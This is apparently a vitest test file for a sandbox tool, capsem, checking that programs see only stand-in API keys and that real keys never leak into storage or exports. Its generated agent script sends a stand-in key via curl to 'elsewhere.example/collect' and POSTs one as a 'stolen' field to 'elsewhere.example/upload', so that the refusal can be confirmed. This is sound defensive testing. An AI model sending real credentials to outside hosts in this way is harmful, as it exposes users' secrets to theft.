import Database from 'better-sqlite3';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportAll, filesUnder, keyOfLength, sessionApiAnswers, tracesIn, tracesInFiles } from '../helpers/keyTraces.ts';
import { anthropicStream, json, sse, startUpstream, type Upstream } from '../helpers/mockUpstreams.ts';
import { runCapsem, runCapsemAsync, USER_FOLDER } from '../helpers/runCapsem.ts';
import { tempHome } from '../helpers/tempHome.ts';
import { writeHomePolicy } from '../helpers/homePolicy.ts';

// Keys stay on the host. `capsem record` runs a program with provider keys set on the host: the
// program sees only per-session stand-ins, the official SDKs (Anthropic, OpenAI, Google GenAI in
// its header, and a request with Gemini's key= query parameter) reach local upstreams that receive
// the real keys, and a provider named only in the policy file works the same way. The stand-in
// sent anywhere else (curl with it in a header, Node with it in a body) is refused and recorded,
// and no byte of a real key is in CAPSEM_HOME or in any export.

const home = tempHome();
const upstreamHome = tempHome();
const exportsDir = mkdtempSync(join(tmpdir(), 'capsem-keys-exports-'));
const require = createRequire(import.meta.url);
const REAL = {
  anthropic: keyOfLength('sk-ant-api03-', 108, 'AA'),
  openai: keyOfLength('sk-proj-', 164),
  gemini: keyOfLength('AIza', 39),
  acme: keyOfLength('acme-', 53),
};
const HOSTS = ['api.anthropic.com', 'api.openai.com', 'generativelanguage.googleapis.com', 'api.acme.test', 'elsewhere.example'];
let upstream: Upstream;
let result: Awaited<ReturnType<typeof runCapsemAsync>>;
let report: { env: Record<string, string>; curlStatus: string; curlBody: string; bodyStatus: number; bodyText: string; texts: string[] };

beforeAll(async () => {
  upstream = await startUpstream(upstreamHome, HOSTS, (req, body, res) => {
    const host = String(req.headers.host).split(':')[0];
    if (host === 'api.anthropic.com')
      return sse(res, anthropicStream('claude-sonnet-4-20250514', 'anthropic ok', [], { input: 10, output: 2 }));
    if (host === 'api.openai.com')
      return json(res, 200, {
        id: 'chatcmpl-1',
        object: 'chat.completion',
        created: 1,
        model: 'gpt-4o-mini',
        choices: [{ index: 0, message: { role: 'assistant', content: 'openai ok' }, finish_reason: 'stop' }],
        usage: { prompt_tokens: 5, completion_tokens: 2, total_tokens: 7 },
      });
    if (host === 'generativelanguage.googleapis.com')
      return json(res, 200, {
        candidates: [{ content: { role: 'model', parts: [{ text: 'gemini ok' }] }, finishReason: 'STOP', index: 0 }],
        usageMetadata: { promptTokenCount: 4, candidatesTokenCount: 2, totalTokenCount: 6 },
        modelVersion: 'gemini-2.0-flash',
      });
    return json(res, 200, { ok: true, host, body });
  });
  const caFile = `${upstreamHome.root}/upstream-ca.pem`;
  writeFileSync(caFile, upstream.caPem);
  writeHomePolicy(home, () => ({
    credentials: {
      providers: [{ id: 'acme', env: 'ACME_API_KEY', header: 'x-acme-key', hosts: ['api.acme.test'], standInPrefix: 'acme-' }],
    },
  }));
  const sdk = (name: string): string => JSON.stringify(pathToFileURL(require.resolve(name)).href);
  const script = `${upstreamHome.root}/agent.mjs`;
  writeFileSync(
    script,
    `
    import Anthropic from ${sdk('@anthropic-ai/sdk')};
    import OpenAI from ${sdk('openai')};
    import { GoogleGenAI } from ${sdk('@google/genai')};
    import { execFileSync } from 'node:child_process';
    const env = Object.fromEntries(['ANTHROPIC_API_KEY', 'OPENAI_API_KEY', 'GEMINI_API_KEY', 'GOOGLE_API_KEY', 'ACME_API_KEY'].map((n) => [n, process.env[n]]));
    const texts = [];
    const a = await new Anthropic({ apiKey: process.env.ANTHROPIC_API_KEY, maxRetries: 0 }).messages.stream({ model: 'claude-sonnet-4-20250514', max_tokens: 16, messages: [{ role: 'user', content: 'hi' }] }).finalMessage();
    texts.push(a.content.map((b) => b.text ?? '').join(''));
    const o = await new OpenAI({ apiKey: process.env.OPENAI_API_KEY, maxRetries: 0 }).chat.completions.create({ model: 'gpt-4o-mini', messages: [{ role: 'user', content: 'hi' }] });
    texts.push(o.choices[0].message.content);
    const g = await new GoogleGenAI({ apiKey: process.env.GEMINI_API_KEY }).models.generateContent({ model: 'gemini-2.0-flash', contents: 'hi' });
    texts.push(g.text);
    const q = await fetch('https://generativelanguage.googleapis.com/v1beta/models/gemini-2.0-flash:generateContent?alt=json&key=' + process.env.GEMINI_API_KEY, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ contents: [{ role: 'user', parts: [{ text: 'hi' }] }] }) });
    texts.push((await q.json()).candidates[0].content.parts[0].text);
    const acme = await fetch('https://api.acme.test/v1/things', { headers: { 'x-acme-key': process.env.ACME_API_KEY } });
    texts.push((await acme.json()).host);
    let curlOut = '';
    try {
      curlOut = execFileSync('curl', ['-sS', '-w', '\\n%{http_code}', '-H', 'x-api-key: ' + process.env.ANTHROPIC_API_KEY, 'https://elsewhere.example/collect'], { encoding: 'utf8' });
    } catch (err) { curlOut = String(err.stdout) + '\\n' + String(err.status); }
    const lines = curlOut.trimEnd().split('\\n');
    const leak = await fetch('https://elsewhere.example/upload', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ note: 'x'.repeat(70000), stolen: process.env.OPENAI_API_KEY }) });
    console.log('REPORT ' + JSON.stringify({ env, texts, curlStatus: lines.at(-1), curlBody: lines.slice(0, -1).join('\\n'), bodyStatus: leak.status, bodyText: await leak.text() }));
  `,
  );
  result = await runCapsemAsync(
    home.root,
    ['record', '--name', 'keys', '--', process.execPath, script],
    {
      ANTHROPIC_API_KEY: REAL.anthropic,
      OPENAI_API_KEY: REAL.openai,
      GEMINI_API_KEY: REAL.gemini,
      ACME_API_KEY: REAL.acme,
      CAPSEM_RESOLVE: HOSTS.map((h) => `${h}:443=127.0.0.1:${upstream.port}`).join(','),
      CAPSEM_UPSTREAM_CA_FILE: caFile,
    },
    { timeoutMs: 90_000 },
  );
  const line = result.stdout.split('\n').find((l) => l.startsWith('REPORT '));
  report = line ? JSON.parse(line.slice(7)) : { env: {}, texts: [], curlStatus: '', curlBody: '', bodyStatus: 0, bodyText: '' };
}, 120_000);
afterAll(async () => {
  await upstream.close();
  home.remove();
  upstreamHome.remove();
  rmSync(exportsDir, { recursive: true, force: true });
});

const sessionDb = (): Database.Database => {
  const id = JSON.parse(runCapsem(home.root, ['list', '--json']).stdout)[0].id as string;
  return new Database(`${home.root}/run/sessions/${id}/session.db`, { readonly: true });
};

describe('capsem record keeps provider keys on the host', () => {
  it("gives the program stand-ins of each key's shape, never a real key", () => {
    expect(result.stdout, result.stderr).toContain('REPORT ');
    expect(report.env.ANTHROPIC_API_KEY).toMatch(/^sk-ant-api03-[A-Za-z0-9_-]{93}AA$/);
    expect(report.env.OPENAI_API_KEY).toMatch(/^sk-proj-[A-Za-z0-9_-]{156}$/);
    expect(report.env.GEMINI_API_KEY).toMatch(/^AIza[A-Za-z0-9_-]{35}$/);
    expect(report.env.GOOGLE_API_KEY).toBeUndefined();
    expect(report.env.ACME_API_KEY).toMatch(/^acme-[A-Za-z0-9_-]{48}$/);
    for (const real of Object.values(REAL)) expect(JSON.stringify(report.env)).not.toContain(real);
    expect(result.code).toBe(0);
  });

  it("puts the real key on requests to each provider's own hosts, in its header or query parameter", () => {
    expect(report.texts).toEqual(['anthropic ok', 'openai ok', 'gemini ok', 'gemini ok', 'api.acme.test']);
    const at = (host: string) => upstream.requests.filter((r) => String(r.headers.host).startsWith(host));
    // This SDK sends the key as x-api-key or as a Bearer token, by version: either gets the real key.
    expect(at('api.anthropic.com').map((r) => r.headers['x-api-key'] ?? String(r.headers.authorization).replace(/^Bearer /, ''))).toEqual([
      REAL.anthropic,
    ]);
    expect(at('api.openai.com').map((r) => r.headers.authorization)).toEqual([`Bearer ${REAL.openai}`]);
    const gemini = at('generativelanguage.googleapis.com');
    expect(gemini[0]!.headers['x-goog-api-key']).toBe(REAL.gemini);
    expect(gemini[1]!.path).toBe(`/v1beta/models/gemini-2.0-flash:generateContent?alt=json&key=${REAL.gemini}`);
    expect(at('api.acme.test').map((r) => r.headers['x-acme-key'])).toEqual([REAL.acme]);
  });

  it('refuses the stand-in going to another host, in a header (curl) or a body (Node), and nothing reaches that host', () => {
    expect(report.curlStatus).toBe('403');
    expect(report.curlBody).toMatch(
      /stand-in for the anthropic key \(in header:x-api-key\) to elsewhere\.example, which is not one of anthropic's API hosts/,
    );
    expect(report.bodyStatus).toBe(403);
    expect(report.bodyText).toMatch(/stand-in for the openai key \(in body\) to elsewhere\.example/);
    expect(upstream.requests.filter((r) => String(r.headers.host).startsWith('elsewhere.example'))).toEqual([]);
  });

  it('records which credential each request used (credential_ref), what was substituted, and what was refused', () => {
    const db = sessionDb();
    const net = db.prepare('SELECT domain, decision, status_code, matched_rule, credential_ref FROM net_events ORDER BY seq').all() as {
      domain: string;
      decision: string;
      status_code: number;
      matched_rule: string;
      credential_ref: string | null;
    }[];
    expect(net.map((r) => [r.domain, r.decision, r.status_code])).toEqual([
      ['api.anthropic.com', 'allowed', 200],
      ['api.openai.com', 'allowed', 200],
      ['generativelanguage.googleapis.com', 'allowed', 200],
      ['generativelanguage.googleapis.com', 'allowed', 200],
      ['api.acme.test', 'allowed', 200],
      ['elsewhere.example', 'denied', 403],
      ['elsewhere.example', 'denied', 403],
    ]);
    for (const row of net) expect(row.credential_ref).toMatch(/^credential:hmac-sha256:[0-9a-f]{64}$/);
    expect(new Set(net.map((r) => r.credential_ref)).size).toBe(4);
    expect(net[5]!.credential_ref).toBe(net[0]!.credential_ref);
    expect(net[6]!.credential_ref).toBe(net[1]!.credential_ref);
    expect(net.slice(5).map((r) => r.matched_rule)).toEqual(['credentials.stand-in-elsewhere', 'credentials.stand-in-elsewhere']);
    const calls = db.prepare('SELECT provider, credential_ref FROM model_calls ORDER BY id').all() as {
      provider: string;
      credential_ref: string;
    }[];
    expect(calls.map((c) => c.provider)).toEqual(['anthropic', 'openai', 'google', 'google']);
    expect(calls.map((c) => c.credential_ref)).toEqual(net.slice(0, 4).map((r) => r.credential_ref));
    const subs = db.prepare('SELECT provider, location, host, outcome, process_name FROM substitution_events ORDER BY id').all();
    expect(subs).toEqual([
      {
        provider: 'anthropic',
        location: expect.stringMatching(/^header:(x-api-key|authorization)$/),
        host: 'api.anthropic.com',
        outcome: 'substituted',
        process_name: 'node',
      },
      { provider: 'openai', location: 'header:authorization', host: 'api.openai.com', outcome: 'substituted', process_name: 'node' },
      {
        provider: 'gemini',
        location: 'header:x-goog-api-key',
        host: 'generativelanguage.googleapis.com',
        outcome: 'substituted',
        process_name: 'node',
      },
      {
        provider: 'gemini',
        location: 'query:key',
        host: 'generativelanguage.googleapis.com',
        outcome: 'substituted',
        process_name: 'node',
      },
      { provider: 'acme', location: 'header:x-acme-key', host: 'api.acme.test', outcome: 'substituted', process_name: 'node' },
      { provider: 'anthropic', location: 'header:x-api-key', host: 'elsewhere.example', outcome: 'refused', process_name: 'node' },
      { provider: 'openai', location: 'body', host: 'elsewhere.example', outcome: 'refused', process_name: 'node' },
    ]);
    const rules = db
      .prepare(
        "SELECT event_type, rule_id, rule_action, event_json FROM security_rule_events WHERE event_type = 'credential.stand_in_elsewhere' ORDER BY id",
      )
      .all() as { rule_action: string; event_json: string }[];
    expect(
      rules.map((r) => [
        r.rule_action,
        JSON.parse(r.event_json).provider,
        JSON.parse(r.event_json).host,
        JSON.parse(r.event_json).process_name,
      ]),
    ).toEqual([
      ['deny', 'anthropic', 'elsewhere.example', 'node'],
      ['deny', 'openai', 'elsewhere.example', 'node'],
    ]);
    db.close();
  });

  it('leaves no byte of a real key in CAPSEM_HOME (WAL included) or in any export', () => {
    const files = [...filesUnder(home.root), ...exportAll(home.root, 'keys', exportsDir)];
    expect(files.some((f) => f.endsWith('session.db'))).toBe(true);
    expect(tracesInFiles(files, REAL)).toEqual([]);
    expect(USER_FOLDER).not.toContain(home.root);
  });

  it("leaves no byte of a real key in the session events API's answers, raw bytes included", async () => {
    const id = JSON.parse(runCapsem(home.root, ['list', '--json']).stdout)[0].id as string;
    expect(tracesIn(Buffer.from(await sessionApiAnswers(home.root, id)), REAL, 'the API')).toEqual([]);
  });

  it('capsem doctor says which providers have a key and where it comes from, never the key', () => {
    const doctor = runCapsem(home.root, ['doctor', '--json'], {
      ANTHROPIC_API_KEY: REAL.anthropic,
      ACME_API_KEY: REAL.acme,
      OPENAI_API_KEY: '',
      GEMINI_API_KEY: '',
      GOOGLE_API_KEY: '',
    });
    const keys = (JSON.parse(doctor.stdout) as { check: string; level: string; detail: string }[]).filter((f) => f.check.endsWith(' key'));
    expect(keys.map((f) => [f.check, f.level])).toEqual([
      ['anthropic key', 'ok'],
      ['openai key', 'warn'],
      ['gemini key', 'warn'],
      ['acme key', 'ok'],
    ]);
    expect(keys[0]!.detail).toMatch(/^from ANTHROPIC_API_KEY in this environment/);
    for (const real of Object.values(REAL)) expect(doctor.stdout + doctor.stderr).not.toContain(real);
  });
});
